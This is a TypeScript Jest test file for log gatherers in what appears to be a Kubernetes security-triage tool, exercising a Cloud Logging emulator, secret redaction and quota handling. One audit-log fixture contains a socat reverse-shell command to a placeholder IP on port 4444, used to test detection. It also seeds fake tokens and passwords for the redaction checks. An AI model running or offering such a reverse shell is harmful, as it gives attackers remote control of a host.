/**
 * The three log gatherers against the Cloud Logging emulator, through the
 * real LoggingServiceV2Client (createLoggingClient), called directly and
 * through runGatherers. Assertions are on what the emulator received (the
 * exact request) and on the sections built from what came back.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { createLoggingClient, type LoggingClient } from '../../lib/clients.js';
import { parseNotification } from '../../lib/finding/parse.js';
import type { SocatFinding } from '../../lib/finding/types.js';
import { createInstanceCache, noCache, type InstanceCache } from '../../lib/gather/cache.js';
import { LOG_READ_GATE } from '../../lib/gather/log-query.js';
import { AUDIT_METHOD_FILTER } from '../../lib/gather/audit-logs.js';
import type { GatherDeps, GatherSettings } from '../../lib/gather/deps.js';
import { auditLogs, logGatherers, nodeLogs, podLogs } from '../../lib/gather/logs.js';
import { runGatherers } from '../../lib/gather/runner.js';
import type { AuditLogSection, GatheredSections, NodeSection } from '../../lib/gather/sections.js';
import type { GatherContext, Gatherer } from '../../lib/gather/types.js';
import { Status } from '../emulators/grpc-harness.js';
import { startLoggingEmulator, type AuditLogSeed, type LoggingEmulator, type SeedLogEntry } from '../emulators/logging-emulator.js';
import { notificationFixture } from '../support/fixtures.js';
import { testGatherDeps } from '../support/gather-deps.js';

const SETTINGS: GatherSettings = {
  relatedWindowMinutes: 60,
  logWindowBeforeMinutes: 30,
  logWindowAfterMinutes: 15,
  logEntriesMax: 50, logPagesMax: 5,
  logExcerptEntries: 2,
  logLineMaxChars: 160,
};
const NOW = new Date('2026-11-27T09:00:00.000Z');

const finding = parseNotification(notificationFixture('socat-v2'));
const PROJECT = 'shop-prod-4711';
const POD = 'checkout-7d9fb6c5d4-x2lqp';
const NS = 'shop';
const EVENT_MS = Date.parse('2026-11-27T02:41:17.532Z');
const START = '2026-11-27T02:11:17.532Z';
const END = '2026-11-27T02:56:17.532Z';
const INSTANCE_ID = '4520968412369148263';
const AUDIT_LOG = `projects/${PROJECT}/logs/cloudaudit.googleapis.com%2Factivity`;

let emulator: LoggingEmulator;
let client: LoggingClient;

beforeAll(async () => {
  emulator = await startLoggingEmulator({ projectNumbers: { '987654321098': 'batch-analytics' } });
  client = await createLoggingClient({ loggingEmulatorHost: emulator.endpoint });
});

afterAll(async () => {
  await client.close();
  await emulator.stop();
});

beforeEach(() => emulator.reset());

function deps(settings: Partial<GatherSettings> = {}, cache: InstanceCache = noCache): GatherDeps {
  return testGatherDeps({
    settings: { ...SETTINGS, ...settings },
    now: () => NOW,
    ownSourceName: null,
    logging: async () => client,
    cache,
  });
}

function context(f: SocatFinding, options: { settings?: Partial<GatherSettings>; sections?: Partial<GatheredSections> } = {}) {
  const gaps: string[] = [];
  const ctx: GatherContext<GatherDeps, GatheredSections> = {
    finding: f,
    signal: new AbortController().signal,
    deps: deps(options.settings),
    sections: options.sections ?? {},
    addGap: (reason) => gaps.push(reason),
  };
  return { ctx, gaps };
}

const at = (minutes: number): Date => new Date(EVENT_MS + minutes * 60_000);

function podEntry(minutes: number, payload: Partial<SeedLogEntry>, labels: Record<string, string> = {}): SeedLogEntry {
  return {
    logName: `projects/${PROJECT}/logs/stdout`,
    resource: {
      type: 'k8s_container',
      labels: { project_id: PROJECT, location: 'us-central1', cluster_name: 'shop-prod', namespace_name: NS, pod_name: POD, container_name: 'checkout', ...labels },
    },
    timestamp: at(minutes),
    severity: 'INFO',
    ...payload,
  };
}

function auditEntry(minutes: number, proto: AuditLogSeed, extra: Partial<SeedLogEntry> = {}): SeedLogEntry {
  return {
    logName: AUDIT_LOG,
    resource: { type: 'k8s_cluster', labels: { project_id: PROJECT, location: 'us-central1', cluster_name: 'shop-prod' } },
    timestamp: at(minutes),
    severity: 'NOTICE',
    protoPayload: { serviceName: 'k8s.io', status: {}, ...proto },
    ...extra,
  };
}

function exec(minutes: number, pod: string, who: string, extra: AuditLogSeed = {}, ns = NS): SeedLogEntry {
  return auditEntry(minutes, {
    methodName: 'io.k8s.core.v1.pods.exec.create',
    resourceName: `core/v1/namespaces/${ns}/pods/${pod}/exec`,
    authenticationInfo: { principalEmail: who },
    requestMetadata: { callerIp: '203.0.113.7', callerSuppliedUserAgent: 'kubectl/v1.31.2 (linux/amd64) kubernetes/abc1234' },
    authorizationInfo: [{ resource: `core/v1/namespaces/${ns}/pods/${pod}/exec`, permission: 'io.k8s.core.v1.pods.exec.create', granted: true }],
    ...extra,
  });
}

function nodeSection(instanceId: string | null): NodeSection {
  return {
    name: 'gke-shop-prod-default-pool-3f2a9c1e-k8vz',
    instanceId,
    labels: {},
    nodePool: 'default-pool',
    zone: 'us-central1-b',
    osImage: null,
    kernelVersion: null,
    containerRuntime: null,
    createdAt: null,
    consoleUrl: null,
  };
}

/** A stand-in for the node gatherer (another engineer's): returns a fixed NodeSection. */
function fakeNodeGatherer(instanceId: string | null): Gatherer<GatherDeps, GatheredSections, 'node'> {
  return {
    section: 'node',
    description: 'test double for the node gatherer',
    needs: [],
    api: 'none',
    permissions: [],
    enabledByDefault: true,
    missing: () => null,
    gather: async () => nodeSection(instanceId),
  };
}

/**
 * gax calls cannot be cancelled, so a call abandoned at the deadline is still
 * in flight; wait for its answer so it does not land after Jest's teardown.
 */
async function slowCallsAnswered(): Promise<void> {
  const pending = () => emulator.requests('ListLogEntries').some((e) => e.durationMs === 0);
  for (let waited = 0; pending() && waited < 10_000; waited += 25) await new Promise((resolve) => setTimeout(resolve, 25));
  await new Promise((resolve) => setTimeout(resolve, 50));
}

function lastRequest(): Record<string, unknown> {
  const calls = emulator.requests('ListLogEntries');
  const last = calls[calls.length - 1];
  if (!last) throw new Error('the emulator received no ListLogEntries call');
  return last.request as Record<string, unknown>;
}

const windowLines = [`timestamp>="${START}"`, `timestamp<="${END}"`];

function link(filter: string, project: string): string {
  return `https://console.cloud.google.com/logs/query;query=${encodeURIComponent(filter)};timeRange=2026-11-27T02%3A11%3A17.532Z%2F2026-11-27T02%3A56%3A17.532Z?project=${project}`;
}

// ---------------------------------------------------------------------------

describe('podLogs', () => {
  const FILTER = [
    'resource.type="k8s_container"',
    `resource.labels.project_id="${PROJECT}"`,
    'resource.labels.location="us-central1"',
    'resource.labels.cluster_name="shop-prod"',
    `resource.labels.namespace_name="${NS}"`,
    `resource.labels.pod_name="${POD}"`,
    ...windowLines,
  ].join('\n');

  beforeEach(() => {
    emulator.seed([
      podEntry(-40, { textPayload: 'before the window' }),
      podEntry(-20, { textPayload: 'first line', severity: 'INFO' }),
      podEntry(-10, { jsonPayload: { message: 'second line', level: 'debug' }, severity: 'DEBUG' }),
      podEntry(-5, { jsonPayload: { event: 'checkout', orderId: 'ord_1' }, severity: 'WARNING' }),
      podEntry(-1, { textPayload: 'fourth line' }),
      podEntry(0, { textPayload: 'fifth line', severity: 'ERROR' }),
      podEntry(5, { textPayload: 'last line' }),
      podEntry(20, { textPayload: 'after the window' }),
      podEntry(1, { textPayload: 'another pod' }, { pod_name: `${POD}-2` }),
      podEntry(1, { textPayload: 'another namespace' }, { namespace_name: 'staging' }),
      podEntry(1, { textPayload: 'another cluster' }, { cluster_name: 'shop-dev' }),
      { ...podEntry(1, { textPayload: 'another project' }, { project_id: 'batch-analytics' }), logName: 'projects/batch-analytics/logs/stdout' },
    ]);
  });

  test('sends the playbook filter with an explicit window, newest first, and reads until no token is left', async () => {
    const { ctx, gaps } = context(finding);
    const section = await podLogs.gather(ctx);
    expect(lastRequest()).toEqual({ resourceNames: [`projects/${PROJECT}`], filter: FILTER, orderBy: 'timestamp desc', pageSize: 50 });
    expect(emulator.requests('ListLogEntries')).toHaveLength(1);
    expect(gaps).toEqual([]);
    expect(section).toEqual({
      filter: FILTER,
      window: { start: START, end: END },
      count: 6,
      truncated: false,
      first: [
        { timestamp: at(-20).toISOString(), severity: 'INFO', text: 'first line' },
        { timestamp: at(-10).toISOString(), severity: 'DEBUG', text: 'second line' },
      ],
      last: [
        { timestamp: at(0).toISOString(), severity: 'ERROR', text: 'fifth line' },
        { timestamp: at(5).toISOString(), severity: 'INFO', text: 'last line' },
      ],
      link: link(FILTER, PROJECT),
    });
  });

  test('a JSON entry without a message is shown as its JSON', async () => {
    const section = await podLogs.gather(context(finding, { settings: { logExcerptEntries: 10 } }).ctx);
    expect(section.first.map((l) => l.text)).toContain('{"event":"checkout","orderId":"ord_1"}');
    expect(section.last).toEqual([]);
  });

  test('follows partial pages, keeps the newest entries within the entry budget and says the read is incomplete', async () => {
    const section = await podLogs.gather(context(finding, { settings: { logEntriesMax: 4, logExcerptEntries: 4 } }).ctx);
    // The emulator answers with half pages, as Cloud Logging may: 2 + 1 + 1 entries for page sizes 4, 2, 1.
    expect(emulator.requests('ListLogEntries').map((r) => (r.request as { pageSize: number }).pageSize)).toEqual([4, 2, 1]);
    expect(section.count).toBe(4);
    expect(section.truncated).toBe(true);
    // The oldest entries are the ones left out; the excerpt stays in chronological order.
    expect(section.first.map((l) => l.text)).toEqual(['{"event":"checkout","orderId":"ord_1"}', 'fourth line', 'fifth line', 'last line']);
  });

  test('stops at the page budget with a token left: truncated', async () => {
    const section = await podLogs.gather(context(finding, { settings: { logEntriesMax: 2, logPagesMax: 1 } }).ctx);
    expect(emulator.requests('ListLogEntries')).toHaveLength(1);
    expect(section.count).toBe(1);
    expect(section.truncated).toBe(true);
  });

  test('an empty page with a token is not the end: the read goes on and only then is complete', async () => {
    const section = await podLogs.gather(context({ ...finding, workload: { ...finding.workload, pod: 'no-such-pod' } }).ctx);
    const calls = emulator.requests('ListLogEntries');
    expect(calls).toHaveLength(2);
    expect((calls[1]?.request as { pageToken?: string }).pageToken).toBeTruthy();
    expect(section.count).toBe(0);
    expect(section.truncated).toBe(false);
  });

  test('the finding must name a cluster and a pod', () => {
    expect(podLogs.missing(finding, {})).toBeNull();
    expect(podLogs.missing({ ...finding, workload: { ...finding.workload, namespace: null } }, {})).toMatch(/names no pod/);
    expect(podLogs.missing({ ...finding, cluster: null }, {})).toMatch(/no GKE cluster/);
  });
});

describe('excerpt lines', () => {
  const secrets = {
    url: 'S3cr3t-Pass-fake',
    github: `ghp_${'F4k3'.repeat(9)}`,
    jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJmYWtlLXVzZXIifQ.c2lnbmF0dXJlLWZha2UtZmFrZS1mYWtl',
    password: 'hunter2-fake',
  };

  beforeEach(() => {
    emulator.seed([
      podEntry(-3, { textPayload: `connecting to postgres://app:${secrets.url}@db.shop.svc:5432/orders with ${secrets.github}` }),
      podEntry(-2, { jsonPayload: { message: `login ok session=${secrets.jwt}`, user: 'bob' } }),
      podEntry(-1, { textPayload: '\u001b[31mERROR\u001b[0m upstream\u0007 failed \u202Egnp.exe\u202C\r\nnext' }),
      podEntry(0, { textPayload: `${'x'.repeat(5000)} DB_PASSWORD=${secrets.password}` }),
      podEntry(1, { textPayload: `pass\u200Bword=${secrets.password} sent` }),
    ]);
  });

  test('secrets are redacted, control characters and ANSI stripped, lines capped', async () => {
    const section = await podLogs.gather(context(finding, { settings: { logExcerptEntries: 5 } }).ctx);
    const texts = section.first.map((l) => l.text);
    expect(texts[0]).toBe('connecting to postgres://app:[REDACTED:url-password]@db.shop.svc:5432/orders with [REDACTED:github-token]');
    expect(texts[1]).toBe('login ok session=[REDACTED:jwt]');
    expect(texts[2]).toBe('ERROR upstream failed gnp.exe  next');
    expect(texts[3]?.length).toBeLessThanOrEqual(SETTINGS.logLineMaxChars);
    expect(texts[3]).toMatch(/^x+…\[truncated: \d+ chars in all\]$/);
    // Invisible characters cannot smuggle a secret past redaction.
    expect(texts[4]).toBe('password=[REDACTED:password] sent');
    const all = JSON.stringify(section);
    for (const secret of Object.values(secrets)) expect(all).not.toContain(secret);
    for (const line of [...section.first, ...section.last]) {
      expect(line.text.length).toBeLessThanOrEqual(SETTINGS.logLineMaxChars);
      expect(line.text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u200b]/);
    }
  });
});

describe('auditLogs', () => {
  // The shared read's window: the 5-minute bucket of the eventTime (02:40-02:45) widened by the window on both sides.
  const SHARED_START = '2026-11-27T02:10:00.000Z';
  const SHARED_END = '2026-11-27T03:00:00.000Z';
  const FILTER = [
    `logName="${AUDIT_LOG}"`,
    'resource.type="k8s_cluster"',
    `resource.labels.project_id="${PROJECT}"`,
    'resource.labels.location="us-central1"',
    'resource.labels.cluster_name="shop-prod"',
    `protoPayload.methodName=~"${AUDIT_METHOD_FILTER}"`,
    `timestamp>="${SHARED_START}"`,
    `timestamp<="${SHARED_END}"`,
  ].join('\n');

  beforeEach(() => {
    emulator.seed([
      auditEntry(-25, {
        methodName: 'io.k8s.core.v1.pods.create',
        resourceName: `core/v1/namespaces/${NS}/pods`,
        authenticationInfo: { principalEmail: 'system:serviceaccount:kube-system:replicaset-controller' },
        response: { metadata: { name: POD, namespace: NS, generateName: 'checkout-7d9fb6c5d4-' } },
      }),
      exec(-12, POD, 'alice@example.com', {
        request: { '@type': 'core.k8s.io/v1.PodExecOptions', command: ['sh', '-c', 'socat exec:/bin/sh,pty,stderr tcp:203.0.113.50:4444'], container: 'checkout' },
      }),
      exec(-11, `${POD}-debug`, 'mallory@example.com'),
      exec(-10, POD, 'eve@example.com', {}, 'staging'),
      exec(-8, POD, 'bob@example.com'),
      exec(-6, POD, 'carol@example.com', {
        request: { requestURI: `/api/v1/namespaces/${NS}/pods/${POD}/exec?command=mysql&command=--password%3Dhunter2-fake&container=checkout&stdin=true` },
      }),
      auditEntry(-4, {
        methodName: 'io.k8s.core.v1.pods.patch',
        resourceName: `core/v1/namespaces/${NS}/pods/${POD}`,
        authenticationInfo: { principalEmail: 'ci-bot@shop-prod-4711.iam.gserviceaccount.com' },
      }),
      auditEntry(-3, {
        methodName: 'io.k8s.core.v1.pods.status.patch',
        resourceName: `core/v1/namespaces/${NS}/pods/${POD}/status`,
        authenticationInfo: { principalEmail: 'system:node:gke-shop-prod-default-pool-3f2a9c1e-k8vz' },
      }),
      auditEntry(-2, {
        methodName: 'io.k8s.core.v1.configmaps.update',
        resourceName: `core/v1/namespaces/${NS}/configmaps/checkout-config`,
        authenticationInfo: { principalEmail: 'ci-bot@shop-prod-4711.iam.gserviceaccount.com' },
      }),
      auditEntry(
        -1,
        { methodName: 'io.k8s.core.v1.pods.get', resourceName: `core/v1/namespaces/${NS}/pods/${POD}` },
        { logName: `projects/${PROJECT}/logs/cloudaudit.googleapis.com%2Fdata_access` },
      ),
      auditEntry(10, {
        methodName: 'io.k8s.core.v1.pods.delete',
        resourceName: `core/v1/namespaces/${NS}/pods/${POD}`,
        authenticationInfo: { principalEmail: 'alice@example.com' },
      }),
    ]);
  });

  test('reads every way into a pod on the cluster, newest first, and keeps the entries about the pod of the finding', async () => {
    const { ctx, gaps } = context(finding);
    const section: AuditLogSection = await auditLogs.gather(ctx);
    expect(lastRequest()).toEqual({ resourceNames: [`projects/${PROJECT}`], filter: FILTER, orderBy: 'timestamp desc', pageSize: 50 });
    expect(gaps).toEqual([]);
    expect(section.filter).toBe(FILTER);
    expect(section.window).toEqual({ start: SHARED_START, end: SHARED_END });
    expect(section.link).toBe(
      `https://console.cloud.google.com/logs/query;query=${encodeURIComponent(FILTER)};timeRange=${encodeURIComponent(SHARED_START)}%2F${encodeURIComponent(SHARED_END)}?project=${PROJECT}`,
    );
    // Read: create, 5 execs, patch, delete (not status.patch, configmaps or data_access); kept: the 6 about this pod in namespace shop.
    expect(section.count).toBe(6);
    expect(section.truncated).toBe(false);
    expect(section.first[0]?.text).toBe(
      `io.k8s.core.v1.pods.create on core/v1/namespaces/${NS}/pods by system:serviceaccount:kube-system:replicaset-controller from unknown IP`,
    );
    expect(section.first[1]?.text).toBe(`io.k8s.core.v1.pods.exec.create on core/v1/namespaces/${NS}/pods/${POD}/exec by alice@example.com from 203.0.113.7`);
  });

  test('pulls out kubectl exec into this pod only, with the command when the entry has it', async () => {
    const section = await auditLogs.gather(context(finding).ctx);
    const ua = 'kubectl/v1.31.2 (linux/amd64) kubernetes/abc1234';
    const m = { kind: 'exec', method: 'io.k8s.core.v1.pods.exec.create' };
    expect(section.execs).toEqual([
      {
        ...m,
        time: at(-12).toISOString(),
        principal: 'alice@example.com',
        callerIp: '203.0.113.7',
        userAgent: ua,
        command: ['sh', '-c', 'socat exec:/bin/sh,pty,stderr tcp:203.0.113.50:4444'],
        container: 'checkout',
        namespace: NS,
        pod: POD,
        mentionsSocat: true,
      },
      { ...m, time: at(-8).toISOString(), principal: 'bob@example.com', callerIp: '203.0.113.7', userAgent: ua, command: null, container: null, namespace: NS, pod: POD, mentionsSocat: false },
      {
        ...m,
        time: at(-6).toISOString(),
        principal: 'carol@example.com',
        callerIp: '203.0.113.7',
        userAgent: ua,
        command: ['mysql', '--password=[REDACTED:password]'],
        container: 'checkout',
        namespace: NS,
        pod: POD,
        mentionsSocat: false,
      },
    ]);
    expect(section.refused).toEqual([]);
  });

  test('pulls out creates, patches and deletes of this pod, not its status updates', async () => {
    const section = await auditLogs.gather(context(finding).ctx);
    expect(section.podChanges).toEqual([
      { time: at(-25).toISOString(), verb: 'create', principal: 'system:serviceaccount:kube-system:replicaset-controller' },
      { time: at(-4).toISOString(), verb: 'patch', principal: 'ci-bot@shop-prod-4711.iam.gserviceaccount.com' },
      { time: at(10).toISOString(), verb: 'delete', principal: 'alice@example.com' },
    ]);
  });
});

describe('nodeLogs', () => {
  const FILTER = ['resource.type="gce_instance"', `resource.labels.instance_id="${INSTANCE_ID}"`, ...windowLines].join('\n');

  const vm = (minutes: number, text: string, instanceId = INSTANCE_ID, log = 'serialconsole.googleapis.com%2Fserial_port_1_output'): SeedLogEntry => ({
    logName: `projects/${PROJECT}/logs/${log}`,
    resource: { type: 'gce_instance', labels: { project_id: PROJECT, instance_id: instanceId, zone: 'us-central1-b' } },
    timestamp: at(minutes),
    textPayload: text,
  });

  beforeEach(() => {
    emulator.seed([
      vm(-9, 'kernel: IPv6: ADDRCONF(NETDEV_CHANGE): veth1a2b3c: link becomes ready'),
      vm(-2, 'kubelet: Started container checkout', INSTANCE_ID, 'kubelet'),
      vm(3, 'audit: type=1400 apparmor="DENIED" operation="exec" profile="cri-containerd.apparmor.d" name="/usr/bin/socat"'),
      vm(1, 'another node', '1111111111111111111'),
    ]);
  });

  test('queries the node by instance id with the window', async () => {
    const section = await nodeLogs.gather(context(finding, { sections: { node: nodeSection(INSTANCE_ID) } }).ctx);
    expect(lastRequest()).toEqual({ resourceNames: [`projects/${PROJECT}`], filter: FILTER, orderBy: 'timestamp desc', pageSize: 50 });
    expect(section.count).toBe(3);
    expect(section.first.map((l) => l.text)).toEqual(['kernel: IPv6: ADDRCONF(NETDEV_CHANGE): veth1a2b3c: link becomes ready', 'kubelet: Started container checkout']);
    expect(section.last.map((l) => l.text)).toEqual([
      'audit: type=1400 apparmor="DENIED" operation="exec" profile="cri-containerd.apparmor.d" name="/usr/bin/socat"',
    ]);
    expect(section.link).toBe(link(FILTER, PROJECT));
  });

  test('without an instance id there is nothing to query', () => {
    expect(nodeLogs.missing(finding, {})).toBe('node instance id unknown');
    expect(nodeLogs.missing(finding, { node: nodeSection(null) })).toBe('node instance id unknown');
    expect(nodeLogs.missing(finding, { node: nodeSection(INSTANCE_ID) })).toBeNull();
  });
});

describe('projects and windows', () => {
  const zonal = parseNotification(notificationFixture('socat-v1-zonal'));

  test('a cluster named by project number: resourceNames keep the number, labels use the project id from projectDisplayName', async () => {
    emulator.seed([
      {
        logName: 'projects/batch-analytics/logs/stdout',
        resource: {
          type: 'k8s_container',
          labels: { project_id: 'batch-analytics', location: 'europe-west1-c', cluster_name: 'batch-eu', namespace_name: 'jobs', pod_name: 'nightly-etl-29384756-vq7z2' },
        },
        timestamp: '2026-11-26T22:09:00Z',
        textPayload: 'etl step 3',
      },
    ]);
    const { ctx, gaps } = context(zonal);
    const section = await podLogs.gather(ctx);
    const request = lastRequest();
    expect(request.resourceNames).toEqual(['projects/987654321098']);
    expect(request.filter).toContain('resource.labels.project_id="batch-analytics"');
    expect(section.count).toBe(1);
    expect(section.link).toMatch(/\?project=batch-analytics$/);
    expect(gaps).toEqual([]);
  });

  test('a project number and no project id: the query still runs, with a note that it may match nothing', async () => {
    const { ctx, gaps } = context({ ...zonal, projectDisplayName: null });
    const section = await auditLogs.gather(ctx);
    expect(section.filter).toContain('logName="projects/987654321098/logs/cloudaudit.googleapis.com%2Factivity"');
    expect(gaps).toEqual([expect.stringMatching(/project 987654321098 only as a number/)]);
  });

  test('no eventTime: the window is centred on now, explicitly, and noted', async () => {
    const { ctx, gaps } = context({ ...finding, eventTime: null });
    const section = await podLogs.gather(ctx);
    expect(section.window).toEqual({ start: '2026-11-27T08:30:00.000Z', end: '2026-11-27T09:15:00.000Z' });
    expect(lastRequest().filter).toMatch(/timestamp>="2026-11-27T08:30:00.000Z"\ntimestamp<="2026-11-27T09:15:00.000Z"$/);
    expect(gaps).toEqual([expect.stringMatching(/no usable eventTime/)]);
  });
});

describe('through runGatherers', () => {
  beforeEach(() => {
    emulator.seed([
      podEntry(-1, { textPayload: 'pod line' }),
      exec(-2, POD, 'alice@example.com'),
      {
        logName: `projects/${PROJECT}/logs/syslog`,
        resource: { type: 'gce_instance', labels: { instance_id: INSTANCE_ID } },
        timestamp: at(0),
        textPayload: 'node line',
      },
    ]);
  });

  const run = (gatherers: readonly Gatherer<GatherDeps, GatheredSections>[], deadlineMs = 10_000, settings: Partial<GatherSettings> = {}) =>
    runGatherers(gatherers, { finding, deps: deps(settings), deadlineMs });

  test('all three succeed in parallel, nodeLogs after the node section', async () => {
    const r = await run([...logGatherers, fakeNodeGatherer(INSTANCE_ID)]);
    expect(r.gaps).toEqual([]);
    expect(r.sections.podLogs?.first.map((l) => l.text)).toEqual(['pod line']);
    expect(r.sections.auditLogs?.execs.map((e) => e.principal)).toEqual(['alice@example.com']);
    expect(r.sections.nodeLogs?.first.map((l) => l.text)).toEqual(['node line']);
    // nodeK8sLogs (test/gather/node-k8s-logs.test.ts) reads by node name; its window matches nothing, which the
    // emulator answers, as the real API may, with an empty page and a token first: two reads for it, five in all.
    expect(r.sections.nodeK8sLogs?.count).toBe(0);
    expect(emulator.requests('ListLogEntries')).toHaveLength(5);
  });

  test('nodeLogs without the node gatherer: a gap naming node', async () => {
    const r = await run([nodeLogs]);
    expect(r.gaps).toEqual([{ section: 'nodeLogs', reason: 'needs node, which is unavailable' }]);
    expect(emulator.requests('ListLogEntries')).toHaveLength(0);
  });

  test('nodeLogs with a node that has no instance id: a gap', async () => {
    const r = await run([nodeLogs, fakeNodeGatherer(null)]);
    expect(r.gaps).toEqual([{ section: 'nodeLogs', reason: 'node instance id unknown' }]);
  });

  test('permission denied becomes a gap naming the permission', async () => {
    emulator.injectFault('ListLogEntries', { code: Status.PERMISSION_DENIED, message: 'The caller does not have permission' });
    const r = await run([podLogs]);
    expect(r.sections.podLogs).toBeUndefined();
    expect(r.gaps).toEqual([
      {
        section: 'podLogs',
        reason: `permission denied: PERMISSION_DENIED: The caller does not have permission (needs logging.logEntries.list on projects/${PROJECT})`,
      },
    ]);
  });

  test('UNAVAILABLE is retried by the shared retry (lib/retry.ts) until it answers', async () => {
    emulator.injectFault('ListLogEntries', { code: Status.UNAVAILABLE, message: 'connection reset', times: 2 });
    const ok = await run([podLogs]);
    expect(ok.gaps).toEqual([]);
    expect(ok.sections.podLogs?.count).toBe(1);
    expect(emulator.requests('ListLogEntries')).toHaveLength(3);
  });

  test('a read refused by the emulated read quota is waited out, not turned into a gap', async () => {
    // One read per 1.5 s per project: the second query is refused at first and succeeds once the window moves.
    emulator.setQuota({ readsPerWindow: 1, windowMs: 1500 });
    try {
      const r = await run([podLogs, auditLogs]);
      expect(r.gaps).toEqual([]);
      expect(r.sections.podLogs?.count).toBe(1);
      expect(r.sections.auditLogs?.execs.map((e) => e.principal)).toEqual(['alice@example.com']);
      expect(emulator.refusedByQuota).toBeGreaterThan(0);
    } finally {
      emulator.setQuota(null);
    }
  });

  test('the quota still refusing at the deadline becomes a gap', async () => {
    emulator.setQuota({ readsPerWindow: 0 });
    try {
      const r = await run([auditLogs], 1500);
      expect(r.sections.auditLogs).toBeUndefined();
      expect(r.gaps).toEqual([{ section: 'auditLogs', reason: 'deadline of 1500 ms reached' }]);
      expect(emulator.refusedByQuota).toBeGreaterThan(1);
    } finally {
      emulator.setQuota(null);
    }
    // The shared read outlives the triage that gave up on it (it would serve the next finding); let it finish before the next test.
    const answered = () => emulator.requests('ListLogEntries').some((q) => q.code === 0);
    for (let waited = 0; !answered() && waited < 10_000; waited += 100) await new Promise((resolve) => setTimeout(resolve, 100));
    expect(answered()).toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 200));
  });

  test('while the quota is spent, a pod log read yields and the audit read waits its turn', async () => {
    LOG_READ_GATE.pause(800);
    const r = await run([podLogs, auditLogs]);
    expect(r.sections.podLogs).toBeUndefined();
    expect(r.gaps).toEqual([{ section: 'podLogs', reason: expect.stringMatching(/^Cloud Logging read quota exhausted .*yielded to the shared audit-log read/) }]);
    expect(r.sections.auditLogs?.execs.map((e) => e.principal)).toEqual(['alice@example.com']);
    expect(emulator.requests('ListLogEntries')).toHaveLength(1);
  });

  test('RESOURCE_EXHAUSTED that is not a rate quota becomes a gap at once', async () => {
    emulator.injectFault('ListLogEntries', { code: Status.RESOURCE_EXHAUSTED, message: 'too many concurrent queries' });
    const r = await run([auditLogs]);
    expect(r.gaps).toHaveLength(1);
    expect(r.gaps[0]?.section).toBe('auditLogs');
    expect(r.gaps[0]?.reason).toMatch(/^Cloud Logging read quota exhausted \(RESOURCE_EXHAUSTED.*too many concurrent/);
    expect(emulator.requests('ListLogEntries')).toHaveLength(1);
  });

  test('two findings on the cluster in one bucket share one audit read, each keeping its own pod', async () => {
    emulator.seed([exec(-3, 'cart-5f7c8d9b6-q4w2e', 'dave@example.com')]);
    const cache = createInstanceCache({ maxEntries: 10, ttlSeconds: 60 });
    const other = { ...finding, eventTime: new Date(EVENT_MS + 60_000).toISOString(), workload: { ...finding.workload, pod: 'cart-5f7c8d9b6-q4w2e' } };
    const [a, b] = await Promise.all([
      runGatherers([auditLogs], { finding, deps: deps({}, cache), deadlineMs: 10_000 }),
      runGatherers([auditLogs], { finding: other, deps: deps({}, cache), deadlineMs: 10_000 }),
    ]);
    expect(emulator.requests('ListLogEntries')).toHaveLength(1);
    expect(a.sections.auditLogs?.execs.map((e) => e.principal)).toEqual(['alice@example.com']);
    expect(b.sections.auditLogs?.execs.map((e) => e.principal)).toEqual(['dave@example.com']);
    expect([a.sections.auditLogs?.count, b.sections.auditLogs?.count]).toEqual([1, 1]);
  });

  test('slower than the deadline becomes a gap, the others still arrive', async () => {
    emulator.setLatency('ListLogEntries', 1500);
    const r = await run([podLogs, fakeNodeGatherer(INSTANCE_ID)], 200);
    expect(r.sections.node?.instanceId).toBe(INSTANCE_ID);
    expect(r.sections.podLogs).toBeUndefined();
    expect(r.gaps).toEqual([{ section: 'podLogs', reason: 'deadline of 200 ms reached' }]);
    await slowCallsAnswered();
  });

  test('the emulator refuses a filter it cannot evaluate, as INVALID_ARGUMENT', async () => {
    const call = client.listLogEntries(
      { resourceNames: [`projects/${PROJECT}`], filter: `resource.type="k8s_container" OR resource.labels.pod_name="${POD}"` },
      { autoPaginate: false, retry: null },
    );
    await expect(call).rejects.toMatchObject({ code: Status.INVALID_ARGUMENT, details: expect.stringMatching(/construct .*: OR/) });
  });
});
